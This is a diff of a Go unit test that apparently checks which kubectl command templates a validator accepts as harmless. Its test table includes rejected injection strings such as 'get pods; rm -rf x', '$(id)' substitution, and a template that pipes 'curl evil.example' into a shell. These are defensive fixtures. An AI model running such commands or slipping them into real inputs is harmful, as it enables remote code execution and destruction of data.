@@ -87,6 +87,7 @@ func TestHarmless(t *testing.T) {
 		"get pod {store}": true, "logs {pod} -c {container}": true, "delete pod {store}": false, "get pods; rm -rf x": false, "get pods $(id)": false, "exec {pod} -- id": false, "get {kind|pods}": false,
 		"get pods {store|; curl evil.example | sh #}": false, "get pods --server=https://evil.example": false, "get pods --token={store}": false,
 		"logs {pod} -n {namespace} --previous --tail=50": true, "get pods -l app={store} -o wide": true,
+		"why pod/{pod} -n {namespace}": true, "why svc/{store}": true, "why uninstall": false, "why {store}": false, "why -n {namespace} uninstall": false, "why record -o x": false, "why mcp": false, "why": false,
 	} {
 		entries, err := Load("acme.yaml", []byte(strings.ReplaceAll(good, "get configmap {store}", kubectl)))
 		if err != nil {
